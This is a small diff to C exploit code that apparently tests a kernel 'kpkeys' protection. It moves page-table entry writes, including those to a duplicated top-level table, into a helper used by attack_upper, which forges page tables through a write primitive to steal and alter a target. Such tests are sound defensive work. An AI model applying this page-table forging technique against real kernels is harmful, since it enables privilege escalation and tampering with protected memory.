@@ -37,6 +37,16 @@ static u64 forge_tables(int level, char *target, u64 phys)
 	return phys;
 }
 
+/* The topmost table has a copy if system calls begin with another. */
+static void write_entry(int level, u64 addr, u64 value)
+{
+	u64 copy = vuln_info()->pgd_copy;
+
+	vuln_write(addr, value);
+	if (level == KPKEYS_VULN_PGD && copy)
+		vuln_write(addr + copy, value);
+}
+
 int attack_upper(int level, const char *path)
 {
 	const struct kpkeys_vuln_info *info = vuln_info();
@@ -60,18 +70,14 @@ int attack_upper(int level, const char *path)
 		die("the entry is in use");
 
 	forged = forge_tables(level, target, secret);
-	vuln_write(e.addr, forged | info->table);
-	if (level == KPKEYS_VULN_PGD && info->pgd_copy)
-		vuln_write(e.addr + info->pgd_copy, forged | info->table);
+	write_entry(level, e.addr, forged | info->table);
 	sync_between(before, after);
 	if (level == KPKEYS_VULN_PGD)
 		steal_and_alter_as_kernel(target);
 	else
 		steal_and_alter(target);
 
-	vuln_write(e.addr, info->sync);
-	if (level == KPKEYS_VULN_PGD && info->pgd_copy)
-		vuln_write(e.addr + info->pgd_copy, info->sync);
+	write_entry(level, e.addr, info->sync);
 	sync_between(before, after);
 	return 0;
 }
